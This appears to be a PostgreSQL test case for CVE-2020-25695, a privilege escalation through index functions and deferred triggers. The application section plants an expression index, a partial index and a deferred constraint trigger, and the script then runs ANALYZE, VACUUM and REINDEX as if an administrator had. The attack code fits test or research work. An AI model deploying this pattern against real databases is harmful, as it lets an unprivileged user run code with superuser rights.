-- way: wait with a deferred trigger, an expression index and a partial index for the ANALYZE, VACUUM and REINDEX of an administrator
-- source: CVE-2020-25695
-- control: a superuser's trigger that inserts into a table of the application
-- section: setup
CREATE SCHEMA ops;
CREATE FUNCTION ops.copy() RETURNS trigger LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS 'BEGIN RETURN NULL; END';
CREATE TRIGGER copy AFTER INSERT ON shop.items FOR EACH ROW EXECUTE FUNCTION ops.copy();
-- section: application
CREATE TABLE shop.inbox (id int, name text);
CREATE FUNCTION shop.f() RETURNS trigger LANGUAGE plpgsql AS :'note';
CREATE CONSTRAINT TRIGGER a AFTER INSERT ON shop.inbox DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION shop.f();
CREATE TABLE shop.exploit (id int);
INSERT INTO shop.exploit VALUES (1), (2), (3);
CREATE FUNCTION shop.index(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN
  RAISE WARNING 'ran as % in %', current_user, current_database();
  INSERT INTO shop.inbox VALUES ($1, 'index'); RETURN $1; EXCEPTION WHEN OTHERS THEN RETURN $1; END $$;
CREATE INDEX a ON shop.exploit ((shop.index(id)));
CREATE INDEX b ON shop.exploit (id) WHERE shop.index(id) > 0;
-- section: others
ANALYZE;
VACUUM;
SELECT format('REINDEX DATABASE %I', current_database()) \gexec
INSERT INTO shop.items VALUES (20, 'spoon');
-- section: control
CREATE OR REPLACE FUNCTION ops.copy() RETURNS trigger LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp
  AS 'BEGIN INSERT INTO shop.inbox VALUES (NEW.id, NEW.name); RETURN NULL; END';
